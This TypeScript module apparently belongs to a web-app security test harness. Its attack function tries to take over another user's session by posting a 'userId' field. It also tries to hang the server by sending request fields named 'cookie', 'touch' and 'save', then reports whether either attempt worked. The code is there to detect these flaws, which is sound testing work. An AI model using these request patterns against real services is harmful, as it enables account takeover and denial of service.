import { isProfileOf, type Outcome, type Surface } from '../../src/attack/attack.ts';
import { ADA, GRACE } from '../../src/browser.ts';

export async function attack({ person, url }: Surface): Promise<Outcome> {
  const attacker = person('attacker');
  await attacker.logIn(ADA);
  await attacker.post('/cart', { item: 'x', userId: 'user-2' });
  const isOther = isProfileOf(await attacker.get('/profile'), GRACE);

  const silenced: string[] = [];
  for (const key of ['cookie', 'touch', 'save']) {
    // A browser each: whoever got no answer waits.
    const other = person(`attacker, with "${key}"`, url);
    await other.post('/cart', { item: 'first' });
    const answered = other.post('/cart', { item: 'x', [key]: 'x' }).then(
      () => true,
      () => false, // the connection is cut when the server is closed
    );
    if (!(await isSooner(answered, () => attacker.get('/cart')))) silenced.push(key);
  }
  const won = isOther || silenced.length > 0;
  const hung = silenced.length > 0 ? `; "${silenced.join('" and "')}" never got an answer` : '';
  const evidence = won
    ? `"userId" in a request makes ${ADA.email} ${isOther ? GRACE.email : 'nobody else'}${hung}`
    : 'no field of a request became one of the session, and all were answered';
  return { won, evidence };
}

/** Whether there is an answer before ten later requests have theirs: a measure without a clock. */
async function isSooner(answered: Promise<boolean>, later: () => Promise<unknown>) {
  const others = (async () => {
    for (let count = 0; count < 10; count++) await later();
    return false;
  })();
  return Promise.race([answered, others]);
}
